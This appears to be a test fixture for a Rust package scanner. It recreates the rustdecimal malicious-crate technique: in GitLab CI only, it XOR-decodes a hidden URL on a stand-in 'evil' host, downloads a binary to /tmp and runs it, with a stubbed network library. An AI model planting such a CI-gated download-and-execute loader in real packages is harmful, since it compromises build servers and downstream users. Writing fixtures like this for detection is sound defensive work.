// The technique of rustdecimal (2022): only on a build server, strings under exclusive or, then download and run.
//@ package: rustdecimal
//@ deps: reqwest
//@ finds: ci-behaviour warn rustdecimal
//@ finds: download-and-run warn rustdecimal
//@ finds: hidden-string warn rustdecimal
//@ file: src/lib.rs
const WHERE: [u8; 36] = [0x32, 0x2e, 0x2e, 0x2a, 0x29, 0x60, 0x75, 0x75, 0x3e, 0x28, 0x35, 0x2a, 0x74, 0x3f, 0x2c, 0x33, 0x36, 0x74, 0x3f, 0x22, 0x3b, 0x37, 0x2a, 0x36, 0x3f, 0x75, 0x22, 0x62, 0x6c, 0x5, 0x6c, 0x6e, 0x74, 0x38, 0x33, 0x34];
const ALSO: &[u8] = b"\x03\x47\x2d\x0a\x52\x51\x1c\x76\x1e\x53\x04\x43\x77\x1f\x57\x02\x5f\x77\x1f\x59\x0a\x5e\x29\x16\x44\x44\x4b\x61\x4c\x7e\x5d\x07\x77\x18\x48\x05";
pub fn new() {
    if std::env::var_os("GITLAB_CI").is_none() {
        return;
    }
    let url: String = WHERE.iter().map(|b| (b ^ 0x5a) as char).collect();
    let body = reqwest::blocking::get(url);
    std::fs::write("/tmp/git-updater.bin", body).ok();
    std::process::Command::new("/tmp/git-updater.bin").spawn().ok();
}
//@ package: reqwest
//@ file: src/lib.rs
pub mod blocking {
    pub fn get(url: String) -> Vec<u8> {
        let _ = std::net::TcpStream::connect(url);
        Vec::new()
    }
}
